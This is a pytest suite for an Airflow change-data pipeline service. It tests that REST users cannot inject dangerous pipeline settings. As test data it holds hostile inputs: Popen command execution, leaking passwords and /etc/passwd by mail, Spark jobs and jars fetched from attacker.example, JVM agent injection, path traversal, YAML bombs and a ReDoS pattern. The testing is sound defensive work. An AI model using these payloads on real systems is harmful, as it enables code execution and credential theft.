"""Attacks on a running site by users who may create and change pipelines over REST."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import httpx
import pytest
import yaml
from airflow_site import Site

API = "/changefeed/api/pipelines"
SMTP = "airflow.providers.smtp.notifications.smtp.SmtpNotifier"
POPEN = "airflow.providers.standard.hooks.subprocess.Popen"

pytestmark = pytest.mark.timeout(600)


@pytest.fixture(scope="module")
def attacked(airflow_site: Site) -> Iterator[Site]:
    """A site that allows mail, with a pipeline that its administrator wrote."""
    before = airflow_site.site_file.read_text()
    airflow_site.site_file.write_text(f"{before}notifiers: [{SMTP}]\nconnections: [{{source: s, kafka: k}}]\n")
    theirs = {"spark": {"connect": "sc://127.0.0.1:1", "conf": {"spark.jars": "/opt/theirs.jar"}}}
    (airflow_site.pipelines / "attacked.yaml").write_text(text_of("attacked", **theirs))
    yield airflow_site
    airflow_site.site_file.write_text(before)
    (airflow_site.pipelines / "attacked.yaml").unlink(missing_ok=True)


def text_of(name: str, **settings: Any) -> str:
    values = {"name": name, "source": {"connection": "mysql_shop"}, "kafka": {"connection": "kafka_shop"}, **settings}
    return yaml.safe_dump({**values, "schedule": None}, sort_keys=False)


def mailing(**arguments: Any) -> dict[str, Any]:
    return {"alerts": {"notify": [{"notifier": SMTP, "arguments": {"to": "ops@example.com", **arguments}}]}}


OBFUSCATED = {"tables": "a.b", "function": "obfuscate", "arguments": {"columns": ["id"]}}

ATTACKS: dict[str, dict[str, Any]] = {
    "a program": {"alerts": {"notify": [{"notifier": POPEN, "arguments": {"args": ["touch", "/tmp/attacked"]}}]}},
    "a password in a mail": mailing(html_content="{{ conn.mysql_shop.password }}"),
    "a file in a mail": mailing(files=["/etc/passwd"]),
    "a file as a template": mailing(template="/etc/passwd"),
    "a job sent elsewhere": {"spark": {"connect": "sc://attacker.example:15002"}},
    "a cluster elsewhere": {"spark": {"connection": "mysql_shop"}},
    "a library": {"spark": {"conf": {"spark.jars": "http://attacker.example/x.jar"}}},
    "an agent": {"spark": {"conf": {"spark.executor.memory": "1g -agentpath:/tmp/x.so"}}},
    "another cluster": {"kafka": {"connection": "kafka_of_the_attacker"}},
    "a password as a record's text": {"columns": {"mask": {"a.b.c": {"text_from": {"connection": "mysql_shop"}}}}},
    "a variable as a salt": {"columns": {"mask": {"a.b.c": {"sha256": {"environment": "AIRFLOW__CORE__FERNET_KEY"}}}}},
    "a password as an argument": {"transforms": [OBFUSCATED | {"secrets": {"keep": {"connection": "k"}}}]},
    "a variable as a function's argument": {
        "transforms": [OBFUSCATED | {"secrets": {"keep": {"environment": "HOME"}}}]
    },
    "a path as a function": {"transforms": [OBFUSCATED | {"function": "../../tmp/attack"}]},
    "a function of the folder": {
        "transforms": [{"tables": "a.b", "function": "mask_cards", "arguments": {"column": "c"}}]
    },
    "a server that is written to": {"followers": [{"connection": "mysql_shop"}], "values": {"temporal": "iso"}},
    "a registry elsewhere": {"format": {"name": "avro", "registry": "registry_of_the_attacker"}},
    "another state": {"checkpoint": {"store": "table", "connection": "airflow_db"}},
    "a long topic": {"topics": {"template": "{table:>600000000}"}},
    "a delay that no date holds": {"retry_delay_seconds": 10**14},
    "a tag that no DAG takes": {"tags": ["x" * 101]},
    "a number that no JSON holds": {"alerts": {"headroom_hours": float("inf")}},
    "another's server_ids": {"source": {"connection": "mysql_shop", "server_ids": "64931-65000"}},
    "a replica's server_id": {"source": {"connection": "mysql_shop", "server_ids": "1-1"}},
    "another's pool": {"pool": "of_one_slot"},
}


@pytest.mark.parametrize("user", ["ulf", "olga"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_settings_naming_code_files_or_hosts_are_refused_over_rest(attacked: Site, attack: str, user: str) -> None:
    """For a user who may edit pipelines, and for one who may also edit connections: the site's connections are in the
    environment, which users cannot edit."""
    files = {path.name for path in attacked.pipelines.glob("*.yaml")}
    with attacked.client(user) as client:
        seen = client.get(f"{API}/attacked")
        created = client.post(API, json={"yaml": text_of("new", **ATTACKS[attack])})
        kept = yaml.safe_load(seen.json()["yaml"])["spark"]
        changed = client.put(
            f"{API}/attacked",
            json={"yaml": text_of("attacked", **{"spark": kept, **ATTACKS[attack]})},
            headers={"If-Match": seen.headers["ETag"]},
        )
        assert (created.status_code, changed.status_code) == (422, 422), created.text + changed.text
        for refused, path in ((created, API), (changed, f"{API}/attacked")):
            checked = client.post(f"{path}/check", json={"yaml": json.loads(refused.request.content)["yaml"]})
            assert (checked.status_code, checked.json()["detail"]) == (422, refused.json()["detail"])
        assert client.get(f"{API}/attacked").headers["ETag"] == seen.headers["ETag"]
    assert {path.name for path in attacked.pipelines.glob("*.yaml")} == files


@pytest.mark.parametrize(
    "text",
    [
        "- " * 90_000,
        "name: x\ntags: " + "{a: " * 20_000,
        "&a {name: *a}",
        "a: &a [x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"{b}: &{b} [{f'*{a},' * 9}]\n" for a, b in zip("abcdefg", "bcdefgh", strict=True)),
        text_of("new") + "".join(f"k{number}: 1\n" for number in range(15_000)),
        text_of("new") + "retries: 0x" + "F" * 100_000,
        text_of("new") + 'owner: "\\0"',
        "\N{BYTE ORDER MARK}",
    ],
    ids=lambda text: text[:12],
)
def test_a_hostile_text_is_refused_and_the_server_lives(attacked: Site, text: str) -> None:
    with attacked.client("ulf") as user:
        began = time.monotonic()
        answer = user.post(API, json={"yaml": text})
        assert answer.status_code == 422, answer.text[:300]
        assert len(answer.text) < 20_000
        assert user.get("/api/v2/monitor/health").status_code == 200
    print(f"{len(text):,} characters: {time.monotonic() - began:.2f} s")


def test_administrators_settings_stay_and_the_rest_may_change(attacked: Site) -> None:
    with attacked.client("ulf") as user:
        seen = user.get(f"{API}/attacked")
        text = seen.json()["yaml"] + "owner: ulf\n"
        kept = user.put(f"{API}/attacked", json={"yaml": text}, headers={"If-Match": seen.headers["ETag"]})
        assert kept.status_code == 200, kept.text
        less = user.put(
            f"{API}/attacked", json={"yaml": text_of("attacked")}, headers={"If-Match": kept.headers["ETag"]}
        )
        assert less.status_code == 422, "it may not be removed either"
        assert "spark.connect, spark.jars of `spark`" in less.json()["detail"]


def test_safe_or_listed_settings_may_be_created_once(attacked: Site) -> None:
    settings = mailing(subject="{{ changefeed.kind }}") | {"spark": {"conf": {"spark.executor.memory": "2g"}}}
    pair = {"source": {"connection": "s"}, "kafka": {"connection": "k"}}
    texts = [text_of("made", **settings, **pair), *[text_of("made", **settings)] * 5]
    file = attacked.pipelines / "made.yaml"
    try:
        with attacked.client("ulf") as user, ThreadPoolExecutor(6) as threads:
            answers = list(threads.map(lambda text: user.post(API, json={"yaml": text}), texts))
        assert sorted(answer.status_code for answer in answers) == [201, *[409] * 5]
        assert file.stat().st_mode & 0o007 == 0
    finally:
        file.unlink(missing_ok=True)


def test_invalid_file_keeps_its_pipeline_name_and_content(attacked: Site) -> None:
    broken = attacked.pipelines / "elsewhere.yaml"
    broken.write_text(text_of("hers") + "owner: [\n")
    try:
        with attacked.client("ulf") as user:
            taken = user.post(API, json={"yaml": text_of("hers")})
            assert (taken.status_code, "elsewhere.yaml" in taken.text) == (409, True), taken.text
        assert broken.read_text().endswith("owner: [\n")
    finally:
        broken.unlink()


def test_refused_file_is_explained_to_users_of_its_pipeline_only(attacked: Site) -> None:
    refused = attacked.pipelines / "elsewhere.yaml"
    refused.write_text(text_of("hers") + "owner: [hers]\n")
    try:
        with attacked.client("rita") as rita:
            attacked.give_rights("* * *__attacked")
            seen = rita.get("/changefeed/api/pipelines", params={"live": "false"}).json()
            assert ([pipeline["name"] for pipeline in seen["pipelines"]], seen["refused"]) == (["attacked"], {})
            attacked.give_rights("GET * *__hers")
            seen = rita.get("/changefeed/api/pipelines", params={"live": "false"}).json()
            assert "'owner'" in seen["refused"]["elsewhere.yaml"]
    finally:
        attacked.give_rights()
        refused.unlink()


def test_pipelines_connections_are_reused_by_its_editors_only(attacked: Site) -> None:
    hers = attacked.pipelines / "hers.yaml"
    pair = {"source": {"connection": "of_hers"}, "kafka": {"connection": "of_hers"}}
    hers.write_text(text_of("hers", **pair))
    try:
        with attacked.client("rita") as rita:
            attacked.give_rights("* * *__attacked", "GET * *__hers")
            seen = rita.get(f"{API}/attacked")
            spark = yaml.safe_load(seen.json()["yaml"])["spark"]
            change = {
                "json": {"yaml": text_of("attacked", spark=spark, **pair)},
                "headers": {"If-Match": seen.headers["ETag"]},
            }
            refused = rita.put(f"{API}/attacked", **change)
            assert (refused.status_code, "may not be used together" in refused.text) == (422, True), refused.text
            attacked.give_rights("* * *__attacked", "* * *__hers")
            assert rita.put(f"{API}/attacked", **change).status_code == 200
    finally:
        attacked.give_rights()
        hers.unlink()


HIDING: dict[str, Any] = {
    "tables": {"include": ["shop.*"], "exclude": ["shop.staff"]},
    "columns": {"exclude": ["shop.*.salary"], "mask": {"shop.*.email": {"characters": 1}, "*.*.phone": {"text": "-"}}},
}


def hiding(name: str = "hiding", **changed: Any) -> str:
    return text_of(name, **{**HIDING, **changed})


SHOWING: dict[str, dict[str, Any]] = {
    "no columns hidden": {"columns": {}},
    "one column fewer": {"columns": {**HIDING["columns"], "exclude": []}},
    "a weaker mask": {"columns": {**HIDING["columns"], "mask": {"shop.*.email": {"characters": 99}}}},
    "a weaker mask that counts first": {
        "columns": {**HIDING["columns"], "mask": {"*.*.email": {"characters": 99}, **HIDING["columns"]["mask"]}}
    },
    "tables with copies of the hidden columns": {"tables": {"include": ["shop.*", "copies.*"]}},
    "the table that was left out": {"tables": {"include": ["shop.*"]}},
    "a name beside the pattern": {"tables": {"include": ["shop_copy.customers"], "exclude": ["shop.staff"]}},
    "a condition": {"rows": {"shop.customers": "salary > 5000"}},
    "a key": {"keys": {"shop.customers": ["email"]}},
    "a partition": {"topics": {"partition_by": ["salary"]}},
    "a route's partition": {"topics": {"routes": [{"match": "shop.customers", "partition_by": ["salary"]}]}},
    "a message of the columns": {"outbox": {"tables": ["shop.customers"], "route.by.field": "phone"}},
    "the columns under names of no meaning": {"unknown_schema": "placeholder"},
    "the statements": {"statements": "publish", "publish_ddl": "inline"},
    "another format": {"format": "maxwell"},
}


@pytest.fixture
def hidden(attacked: Site) -> Iterator[Site]:
    """A pipeline that hides columns, and one of another source that hides none; rita may edit both."""
    apart = {"source": {"connection": "elsewhere"}, "kafka": {"connection": "elsewhere"}}
    files = {"hiding": hiding(), "plain": text_of("plain", **apart)}
    (attacked.pipelines / "attacked.yaml").rename(attacked.pipelines / "attacked.kept")
    idle = attacked.pipelines / "idle.yaml"
    for name, text in files.items():
        (attacked.pipelines / f"{name}.yaml").write_text(text)
    attacked.give_rights("* * *__hiding", "* * *__plain")
    try:
        yield attacked
    finally:
        attacked.give_rights()
        (attacked.pipelines / "attacked.kept").rename(attacked.pipelines / "attacked.yaml")
        for name in files:
            (attacked.pipelines / f"{name}.yaml").unlink()
        assert idle.exists()


def put(site: Site, name: str, text: str) -> httpx.Response:
    with site.client("rita") as rita:
        seen = rita.get(f"{API}/{name}")
        return rita.put(f"{API}/{name}", json={"yaml": text}, headers={"If-Match": seen.headers["ETag"]})


def test_hidden_columns_are_neither_shown_nor_queried_over_rest(hidden: Site) -> None:
    answers = {what: put(hidden, "hiding", hiding(**changed)) for what, changed in SHOWING.items()}
    assert {what: answer.status_code for what, answer in answers.items()} == dict.fromkeys(SHOWING, 422)
    for what, answer in answers.items():
        assert "hides columns" in answer.json()["detail"], what + answer.text
    assert (hidden.pipelines / "hiding.yaml").read_text() == hiding()


def test_hiding_pipeline_may_hide_more_columns(hidden: Site) -> None:
    columns = {"exclude": ["shop.*.salary", "*.*.email"], "mask": {**HIDING["columns"]["mask"], "*.*.a": {"text": ""}}}
    tables = {"include": ["shop.customers", "shop.orders"], "exclude": ["shop.staff", "shop.x"]}
    topics = {"partitions": 12, "configs": {"retention.ms": "1000000"}}
    changed = hiding(columns=columns, tables=tables, topics=topics, owner="rita", retries=7)
    assert put(hidden, "hiding", changed).status_code == 200
    assert put(hidden, "hiding", hiding()).status_code == 422


def test_connections_of_a_hiding_pipeline_require_the_same_hiding(hidden: Site) -> None:
    for what, changed in SHOWING.items():
        refused = put(hidden, "plain", hiding("plain", **changed))
        assert (refused.status_code, "'hiding'" in refused.text) == (422, True), what + refused.text
    assert put(hidden, "plain", hiding("plain")).status_code == 200


def test_recreated_pipeline_hides_the_same_columns(hidden: Site) -> None:
    (hidden.pipelines / "hiding.yaml").write_text(hiding(source={"connection": "of_hers"}))
    hidden.give_rights("* * *__hiding", "POST * changefeed_ingest__[*]")
    with hidden.client("rita") as rita:
        seen = rita.get(f"{API}/hiding")
        assert rita.delete(f"{API}/hiding", headers={"If-Match": seen.headers["ETag"]}).status_code == 204
        try:
            created = rita.post(API, json={"yaml": text_of("hiding", source={"connection": "of_hers"})})
            assert (created.status_code, "may not be used together" in created.text) == (422, True), created.text
        finally:
            (hidden.pipelines / "hiding.yaml").write_text(hiding())


def test_slow_pattern_does_not_block_the_server(hidden: Site) -> None:
    slow = "/shop[.](?:[a-z_.]+)+[0-9]/"
    database = "shop_of_slow_names"
    hidden.mysql.execute(f"CREATE DATABASE {database}", f"CREATE TABLE {database}.{'customer_' * 6}history (id INT)")
    plain = yaml.safe_load((hidden.pipelines / "plain.yaml").read_text())
    (hidden.pipelines / "plain.yaml").write_text(text_of("plain"))
    try:
        answer = put(hidden, "plain", text_of("plain", tables={"include": [slow.replace("shop[.]", "")]}))
        with ThreadPoolExecutor(1) as beside, hidden.client("rita") as rita, hidden.client("ada") as admin:
            looking = beside.submit(rita.get, f"{API}/plain")
            time.sleep(1)
            admin.timeout = httpx.Timeout(60)
            assert admin.get("/api/v2/monitor/health").status_code == 200
            looking.result()
            plans = [
                rita.post(f"{API}/plain/{what}/plan", json={"tables": [slow], **body})
                for what, body in {"snapshot": {}, "backfill": {"from_file": "binlog.000001"}}.items()
            ]
        assert answer.status_code == 200, answer.text
        assert {plan.status_code for plan in plans} <= {200, 422}, [plan.text for plan in plans]
    finally:
        hidden.mysql.execute(f"DROP DATABASE {database}")
        (hidden.pipelines / "plain.yaml").write_text(yaml.safe_dump(plain))


ROBBED = ("robbed_source", "robbed_kafka")


@pytest.fixture
def connections(attacked: Site) -> Iterator[Site]:
    """Connections in Airflow's database, one of which differs only in case from one of the environment."""
    with attacked.client() as admin:
        for name in (*ROBBED, "MySQL_Shop"):
            created = {"connection_id": name, "conn_type": "mysql", "host": "attacker.example"}
            assert admin.post("/api/v2/connections", json=created).status_code == 201
        yield attacked
        for name in (*ROBBED, "MySQL_Shop"):
            admin.delete(f"/api/v2/connections/{name}")


def test_connection_editors_cannot_read_environment_connections(connections: Site) -> None:
    source, kafka = ROBBED
    iso = {"values": {"temporal": "iso"}}
    theirs = {"source": {"connection": source}, "kafka": {"connection": kafka}}
    thefts: dict[str, dict[str, Any]] = {
        "rows": {"kafka": {"connection": kafka}},
        "rows by another spelling": {"source": {"connection": "MySQL_Shop"}, "kafka": {"connection": kafka}},
        "topics": {"source": {"connection": source}},
        "topics by a follower": {"followers": [{"connection": source}], **iso},
        "a server that is written to": {**theirs, "followers": [{"connection": "mysql_shop"}], **iso},
        "a password": {**theirs, "columns": {"mask": {"a.b.c": {"text_from": {"connection": "mysql_shop"}}}}},
        "a password as an argument": {
            **theirs,
            "transforms": [OBFUSCATED | {"secrets": {"keep": {"connection": "k"}}}],
        },
        "a variable": {**theirs, "columns": {"mask": {"a.b.c": {"text_from": {"environment": "HOME"}}}}},
        "a login": {**theirs, "format": {"name": "avro", "registry": "mysql_shop"}},
        "a job": {**theirs, "spark": {"connection": source}},
    }
    with connections.client("olga") as op, connections.client("ulf") as editor:
        for theft, settings in thefts.items():
            answer = op.post(API, json={"yaml": text_of("robbed", **settings)})
            assert answer.status_code == 422, theft + answer.text
        assert editor.post(API, json={"yaml": text_of("robbed", **theirs)}).status_code == 422
        allowed = op.post(API, json={"yaml": text_of("robbed", **theirs, followers=[{"connection": source}], **iso)})
        (connections.pipelines / "robbed.yaml").unlink(missing_ok=True)
    assert allowed.status_code == 201, allowed.text
